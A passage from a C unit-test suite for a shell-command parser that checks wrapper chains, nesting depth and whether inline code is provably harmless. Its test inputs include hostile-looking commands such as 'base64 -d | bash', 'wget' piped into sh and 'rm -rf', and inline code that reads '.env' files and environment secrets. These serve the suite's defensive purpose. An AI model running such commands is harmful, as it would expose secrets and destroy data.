	ck_assert(s->flags & LOCUS_CMD_WRAPPER);
	ck_assert(!(m->flags & LOCUS_CMD_WRAPPER));
	locus_shell_result_free(r);
}
END_TEST

START_TEST(test_nested_depth_and_parent)
{
	locus_shell_result *r = parse("sudo sh -c 'eval rm x'");
	ck_assert_msg(locus_shell_result_parsed(r), "%s", dump(r));
	long sh = find_cmd(r, "sh -c eval rm x||sudo|sudo");
	long ev = find_cmd(r, "eval rm x|shell -c|sh");
	long rm = find_cmd(r, "rm x|eval|eval");
	ck_assert_msg(sh >= 0 && ev >= 0 && rm >= 0, "%s", dump(r));
	const locus_shell_command *e = locus_shell_result_command(r, ev);
	const locus_shell_command *m = locus_shell_result_command(r, rm);
	ck_assert_uint_eq(e->parent, (size_t)sh);
	ck_assert_uint_eq(m->parent, (size_t)ev);
	ck_assert_uint_eq(e->depth, 1);
	ck_assert_uint_eq(m->depth, 2);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(test_depth_option)
{
	/* the original's vector: eval x12 fails with a limit of 8 */
	locus_shell_options o = LOCUS_SHELL_OPTIONS_INIT;
	o.max_depth = 8;
	const char *l12 = "eval eval eval eval eval eval eval eval eval eval "
	                  "eval eval reboot";
	locus_shell_result *r = locus_shell_parse(l12, strlen(l12), &o);
	ck_assert_msg(!locus_shell_result_parsed(r), "%s", dump(r));
	locus_shell_result_free(r);
	const char *l4 = "eval eval eval eval reboot";
	r = locus_shell_parse(l4, strlen(l4), &o);
	ck_assert_msg(locus_shell_result_parsed(r), "%s", dump(r));
	locus_shell_result_free(r);
}
END_TEST

START_TEST(test_sh_c_deep)
{
	/* sh -c 'sh -c '\''sh -c ...'\''' nested 6 deep with a limit of 4
	   (quoting grows 3x per level, so the limit is lowered) */
	locus_shell_options o = LOCUS_SHELL_OPTIONS_INIT;
	o.max_depth = 4;
	char *s = strdup("reboot");
	for (int i = 0; i < 6; i++) {
		size_t n = strlen(s);
		char *q = malloc(n * 4 + 16);
		char *p = q;
		p += sprintf(p, "sh -c '");
		for (size_t k = 0; k < n; k++) {
			if (s[k] == '\'')
				p += sprintf(p, "'\\''");
			else
				*p++ = s[k];
		}
		sprintf(p, "'");
		free(s);
		s = q;
	}
	locus_shell_result *r = locus_shell_parse(s, strlen(s), &o);
	ck_assert_msg(!locus_shell_result_parsed(r), "%s", dump(r));
	ck_assert(find_cmd(r, "reboot") < 0);
	ck_assert(find_cmd(r, "sh|shell -c") >= 0);
	locus_shell_result_free(r);
	free(s);
}
END_TEST

START_TEST(test_xargs_chain_depth)
{
	/* xargs xargs xargs ... must stop at the depth limit, not recurse */
	char line[4096] = "";
	for (int i = 0; i < 300; i++)
		strcat(line, "xargs ");
	strcat(line, "rm");
	locus_shell_result *r = parse(line);
	ck_assert(!locus_shell_result_parsed(r));
	ck_assert(find_cmd(r, "rm") < 0);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(test_many_wrappers)
{
	/* a long chain of wrappers: each listed, no depth cost, up to
	   LP_MAX_WRAPPER_CHAIN; past it the line is unparsed (a
	   chain cost the square of its length) */
	char line[8192] = "";
	for (int i = 0; i < 64; i++)
		strcat(line, "nohup ");
	strcat(line, "rm x");
	locus_shell_result *r = parse(line);
	ck_assert_msg(locus_shell_result_parsed(r), "%s",
	              locus_shell_result_reason(r));
	ck_assert_uint_eq(locus_shell_result_count(r), 65);
	const locus_shell_command *c = locus_shell_result_command(r, 64);
	ck_assert_str_eq(c->name, "rm");
	ck_assert_uint_eq(c->nwrappers, 64);
	locus_shell_result_free(r);
	line[0] = '\0';
	for (int i = 0; i < 500; i++)
		strcat(line, "nohup ");
	strcat(line, "rm x");
	r = parse(line);
	ck_assert(!locus_shell_result_parsed(r));
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r),
	                             "a chain of more than 64 wrappers"));
	ck_assert_uint_eq(locus_shell_result_count(r), 65);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(test_reasons)
{
	locus_shell_result *r = parse("sudo -Z rm x");
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "-Z"));
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "sudo"));
	locus_shell_result_free(r);
	r = parse("sudo $X");
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "dynamic"));
	locus_shell_result_free(r);
	r = parse("echo x | base64 -d | bash");
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "decoded"));
	locus_shell_result_free(r);
	r = parse("cat f | bash");
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "cat"));
	locus_shell_result_free(r);
}
END_TEST

/* Hostile shapes: a wrapper, shell or interpreter missing its operand.
   Each gives a result whose first command is the program named, parsed
   (the program runs and fails, or runs nothing) except where the
   operands come from stdin at run time, and never a read. */
START_TEST(test_odd_shapes)
{
	static const struct {
		const char *line, *first; /* first command's name */
		bool parsed;
	} rows[] = {
	    {"sudo", "sudo", true},
	    {"timeout", "timeout", true},
	    {"xargs", "xargs", true}, /* then echo, xargs' default */
	    {"sh -c", "sh", true},
	    {"find . -exec", "find", true},
	    {"env -S", "env", true},
	    {"su -c", "su", true},
	    {"git -c", "git", true},
	    {"git -c alias.x", "git", true},
	    {"ssh", "ssh", true},
	    {"ssh -p", "ssh", true},
	    {"watch", "watch", true},
	    {"trap", "trap", true},
	    {"eval", "eval", true},
	    {"python3 -c", "python3", true},
	    {"awk", "awk", true},
	    {"node -e", "node", true},
	    {"perl -e 'system(' ", "perl", true},
	    {"python3 -c 'os.system(\"'", "python3", true},
	    {"python3 -c 'subprocess.run([\"a\", [\"b\"'", "python3", true},
	    /* commands read from stdin at run time */
	    {"parallel", "parallel", false},
	    {"parallel :::", "parallel", true},
	    {"fd -x", "fd", true},
	    {"bwrap --bind a", "bwrap", true},
	    {"sudo -u", "sudo", true},
	    {"git -c alias.x='!' x", "git", true},
	    {"python3 -c 'os.system((((((((x'", "python3", true},
	    {"env -u", "env", true},
	    {"flock f -c", "flock", true},
	    {"nice -", "nice", true},
	    {"sudo -h", "sudo", true},
	    {"perl -e 'qx{' ", "perl", true},
	    {"ruby -e '%x('", "ruby", true},
	};
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		locus_shell_result *r = parse(rows[i].line);
		ck_assert_msg(r, "%s: no result", rows[i].line);
		ck_assert_msg(locus_shell_result_parsed(r) == rows[i].parsed,
		              "%s: parsed %d (%s)", rows[i].line,
		              locus_shell_result_parsed(r),
		              locus_shell_result_reason(r));
		ck_assert_msg(locus_shell_result_count(r) >= 1,
		              "%s: no command", rows[i].line);
		ck_assert_str_eq(locus_shell_result_command(r, 0)->name,
		                 rows[i].first);
		locus_shell_verdict *v = NULL;
		ck_assert_int_eq(locus_shell_label(&v, r), 0);
		ck_assert_msg(locus_shell_verdict_kind(v) == LOCUS_KIND_EXEC,
		              "%s: not exec", rows[i].line);
		locus_shell_verdict_free(v);
		locus_shell_result_free(r);
	}
	/* the empty line: parsed, nothing runs */
	locus_shell_result *r = parse("");
	ck_assert(locus_shell_result_parsed(r));
	ck_assert_uint_eq(locus_shell_result_count(r), 0);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(test_big_inline_code)
{
	/* 512 KiB of python: the scan finishes or fails closed */
	size_t n = 512 * 1024;
	char *s = malloc(n + 64);
	strcpy(s, "python3 -c '");
	size_t p = strlen(s);
	while (p < n) {
		memcpy(s + p, "os.system(\"\"\"(((", 16);
		p += 16;
	}
	strcpy(s + p, "'");
	locus_shell_result *r = locus_shell_parse(s, strlen(s), NULL);
	ck_assert_ptr_nonnull(r);
	locus_shell_result_free(r);
	free(s);
}
END_TEST

/* ---- unit: lp_emit with hand-built raw commands ----------------------- */

typedef struct unit {
	locus_shell_parser *p;
	locus_shell_result *r;
	lp_ctx ctx;
} unit;

static void unit_init(unit *u, bool with_table)
{
	memset(u, 0, sizeof *u);
	ck_assert_int_eq(locus_shell_parser_new(&u->p, NULL), 0);
	if (!with_table) {
		lp_inline_table_free(u->p->inline_table);
		u->p->inline_table = NULL;
	}
	lp_arena a;
	lp_arena_init(&a);
	u->r = lp_arena_alloc(&a, sizeof *u->r);
	ck_assert_ptr_nonnull(u->r);
	u->r->arena = a;
	u->r->source = "";
	u->r->parsed = true;
	u->ctx.parser = u->p;
	u->ctx.result = u->r;
	u->ctx.arena = &u->r->arena;
	u->ctx.opts = u->p->opts;
	clock_gettime(CLOCK_MONOTONIC, &u->ctx.deadline);
	u->ctx.deadline.tv_sec += 30;
}

static void unit_free(unit *u)
{
	locus_shell_result_free(u->r);
	locus_shell_parser_free(u->p);
}

/* Words separated by blanks; a word starting with $ is dynamic. */
static lp_raw_command unit_raw(unit *u, const char *spec)
{
	lp_raw_command raw;
	memset(&raw, 0, sizeof raw);
	lp_word *w = lp_arena_alloc(u->ctx.arena, 64 * sizeof *w);
	char *copy = lp_arena_strdup(u->ctx.arena, spec);
	size_t n = 0;
	for (char *t = strtok(copy, " "); t && n < 64; t = strtok(NULL, " ")) {
		w[n].text = t;
		w[n].value = t;
		w[n].flags = t[0] == '$' ? LOCUS_WORD_DYNAMIC : 0;
		n++;
	}
	raw.words = w;
	raw.nwords = n;
	raw.connector = "";
	raw.origin = "";
	raw.parent = LOCUS_SHELL_NO_PARENT;
	raw.stdin_producer = LOCUS_SHELL_NO_PARENT;
	return raw;
}

START_TEST(test_unit_emit_wrappers)
{
	unit u;
	unit_init(&u, true);
	lp_raw_command raw = unit_raw(&u, "sudo -u root timeout 5 rm -rf x");
	size_t idx = lp_emit(&u.ctx, &raw);
	ck_assert_uint_eq(idx, 2);
	ck_assert_uint_eq(u.r->ncommands, 3);
	ck_assert_str_eq(u.r->commands[2].name, "rm");
	ck_assert_uint_eq(u.r->commands[2].parent, 1);
	ck_assert_uint_eq(u.r->commands[1].parent, 0);
	ck_assert_str_eq(u.r->commands[1].name, "timeout");
	ck_assert(u.r->parsed);
	unit_free(&u);
}
END_TEST

START_TEST(test_unit_dynamic_name)
{
	unit u;
	unit_init(&u, true);
	lp_raw_command raw = unit_raw(&u, "nohup $X -rf /");
	lp_emit(&u.ctx, &raw);
	ck_assert(!u.r->parsed);
	ck_assert_ptr_nonnull(strstr(u.r->reason, "$X"));
	ck_assert(u.r->commands[1].flags & LOCUS_CMD_DYNAMIC);
	unit_free(&u);
}
END_TEST

START_TEST(test_unit_stdin_producers)
{
	static const struct {
		const char *producer;
		bool parsed;
		bool nested; /* a command was found in the script */
		             /* clang-format off */
	} cases[] = {
		{ "echo rm x", true, true },
	                     /* clang-format on */
	    {"echo -n rm x", true, true},
	    {"echo -e rm\\x20x", false, false},
	    {"printf rm%sx -", true, true},
	    {"printf rm\\tx", false, false},
	    {"printf %d 1", false, false},
	    {"wget -qO- x", true, false},
	    {"xxd -r -p", false, false},
	    {"openssl enc -d", false, false},
	    {"gunzip", false, false},
	    {"python3 gen.py", false, false},
	    {"echo $X", false, false},
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		unit u;
		unit_init(&u, true);
		lp_raw_command prod = unit_raw(&u, cases[i].producer);
		size_t pi = lp_emit(&u.ctx, &prod);
		lp_raw_command sh = unit_raw(&u, "sh");
		sh.stdin_kind = LP_STDIN_PIPE;
		sh.stdin_producer = pi;
		sh.connector = "|";
		size_t si = lp_emit(&u.ctx, &sh);
		ck_assert_msg(u.r->parsed == cases[i].parsed, "%s: %s",
		              cases[i].producer,
		              u.r->reason ? u.r->reason : "parsed");
		ck_assert(u.r->commands[si].flags & LOCUS_CMD_STDIN_SCRIPT);
		bool nested = false;
		for (size_t k = si + 1; k < u.r->ncommands; k++)
			if (u.r->commands[k].parent == si &&
			    !strcmp(u.r->commands[k].origin, "stdin-script"))
				nested = true;
		ck_assert_msg(nested == cases[i].nested, "%s",
		              cases[i].producer);
		unit_free(&u);
	}
}
END_TEST

START_TEST(test_unit_heredoc_dynamic)
{
	unit u;
	unit_init(&u, true);
	lp_raw_command sh = unit_raw(&u, "bash");
	sh.stdin_kind = LP_STDIN_HEREDOC;
	sh.stdin_text = "rm -rf $DIR\n";
	sh.stdin_flags = LOCUS_WORD_DYNAMIC;
	lp_emit(&u.ctx, &sh);
	ck_assert(!u.r->parsed);
	/* the text is still parsed, so rm is listed */
	bool rm = false;
	for (size_t k = 0; k < u.r->ncommands; k++)
		rm |= !strcmp(u.r->commands[k].name, "rm");
	ck_assert(rm);
	unit_free(&u);
}
END_TEST

START_TEST(test_unit_depth_limit)
{
	unit u;
	unit_init(&u, true);
	lp_raw_command raw = unit_raw(&u, "xargs rm");
	raw.depth = u.ctx.opts.max_depth; /* one more step is too deep */
	lp_emit(&u.ctx, &raw);
	ck_assert(!u.r->parsed);
	ck_assert_uint_eq(u.r->ncommands, 1);
	unit_free(&u);
}
END_TEST

/* The closed vocabulary of inline code (parser/inline_safe.c): what it
   proves harmless, and the spellings that reach the environment, files,
   processes or other code. */
static const struct {
	const char *code;
	unsigned lang;
	bool proven;
	/* clang-format off */
} inline_cases[] = {
    {"print(1+1)", LK_LANG_PY, true},
    /* clang-format on */
    {"import sys; print(sys.version)", LK_LANG_PY, true},
    {"import requests; print(requests.__version__)", LK_LANG_PY, true},
    {"import json,sys; print(json.load(sys.stdin)['v'])", LK_LANG_PY, true},
    {"import datetime; print(datetime.datetime.now().isoformat())", LK_LANG_PY,
     true},
    {"for k, v in {'a': 1}.items(): print(k, v, sep='=')", LK_LANG_PY, true},
    {"print(f'{1+1:>4}')", LK_LANG_PY, true},
    {"import sys\nprint(sys.version_info)\n", LK_LANG_PY, true},
    {"console.log(process.version)", LK_LANG_JS, true},
    {"console.log(require('./package.json').version)", LK_LANG_JS, true},
    {"const x = [1,2].map(n => n*2); console.log(x)", LK_LANG_JS, true},
    {"import os; print(dict(os.environ))", LK_LANG_PY, false},
    {"import os; print(os.getenv('K'))", LK_LANG_PY, false},
    {"from os import environ; print(environ)", LK_LANG_PY, false},
    {"from shutil import copy; copy('a', '.git/config')", LK_LANG_PY, false},
    {"import os as json; json.replace('a', 'b')", LK_LANG_PY, false},
    {"import os; x = os; x.replace('a', 'b')", LK_LANG_PY, false},
    {"import pickle; pickle.loads(b'')", LK_LANG_PY, false},
    {"print(open('.env').read())", LK_LANG_PY, false},
    {"print('{0.environ}'.format(__import__('os')))", LK_LANG_PY, false},
    {"print(f'{vars()}')", LK_LANG_PY, false},
    {"print(sys.modules)", LK_LANG_PY, false},
    {"print(().__class__.__mro__)", LK_LANG_PY, false},
    {"exec('print(1)')", LK_LANG_PY, false},
    {"lambda: 1", LK_LANG_PY, false},
    {"\xef\xbd\x8fs", LK_LANG_PY, false},
    {"print('unclosed", LK_LANG_PY, false},
    {"console.log(process.env)", LK_LANG_JS, false},
    {"console.log(process['env'])", LK_LANG_JS, false},
    {"console.log(process)", LK_LANG_JS, false},
    {"console.log(require('process'))", LK_LANG_JS, false},
    {"console.log(require('fs').readFileSync('.env', 'utf8'))", LK_LANG_JS,
     false},
    {"console.log(`${process.env.HOME}`)", LK_LANG_JS, false},
    {"[].constructor.constructor('x')()", LK_LANG_JS, false},
    {"print %ENV", LK_LANG_PERL, false},
    {"p ENV", LK_LANG_RUBY, false},
    {"print_r(getenv());", LK_LANG_PHP, false},
};

START_TEST(test_inline_proven)
{
	for (size_t i = 0; i < sizeof inline_cases / sizeof *inline_cases; i++)
		ck_assert_msg(lp_inline_proven(inline_cases[i].code,
		                               inline_cases[i].lang) ==
		                  inline_cases[i].proven,
		              "%s: want %s", inline_cases[i].code,
		              inline_cases[i].proven ? "proven" : "not proven");
	ck_assert(!lp_inline_proven(NULL, LK_LANG_PY));
}
END_TEST

START_TEST(test_unit_no_pattern_table)
{
	/* without the compiled table inline code cannot be checked: fail
	   closed */
	unit u;
	unit_init(&u, false);
	lp_raw_command raw = unit_raw(&u, "python3 -c print(1)");
	lp_emit(&u.ctx, &raw);
	ck_assert(!u.r->parsed);
	ck_assert(u.r->commands[0].flags & LOCUS_CMD_INLINE_CODE);
	unit_free(&u);
}
END_TEST

START_TEST(test_unit_table_lifecycle)
{
	lp_inline_table *t = lp_inline_table_new();
	ck_assert_ptr_nonnull(t);
	lp_inline_table_free(t);
	lp_inline_table_free(NULL);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("seethrough");
	TCase *tc = tcase_create("vectors");
	tcase_add_loop_test(tc, test_vectors, 0,
	                    (int)(sizeof vectors / sizeof *vectors));
	suite_add_tcase(s, tc);
	tc = tcase_create("structure");
	tcase_add_test(tc, test_wrapper_chain);
	tcase_add_test(tc, test_nested_depth_and_parent);
	tcase_add_test(tc, test_depth_option);
	tcase_add_test(tc, test_sh_c_deep);
	tcase_add_test(tc, test_xargs_chain_depth);
	tcase_add_test(tc, test_many_wrappers);
	tcase_add_test(tc, test_reasons);
	tcase_add_test(tc, test_odd_shapes);
	tcase_add_test(tc, test_big_inline_code);
	suite_add_tcase(s, tc);
	tc = tcase_create("unit");
	tcase_add_test(tc, test_unit_emit_wrappers);
	tcase_add_test(tc, test_unit_dynamic_name);
	tcase_add_test(tc, test_unit_stdin_producers);
	tcase_add_test(tc, test_unit_heredoc_dynamic);
	tcase_add_test(tc, test_unit_depth_limit);
	tcase_add_test(tc, test_unit_no_pattern_table);
	tcase_add_test(tc, test_inline_proven);
	tcase_add_test(tc, test_unit_table_lifecycle);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(suite());
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
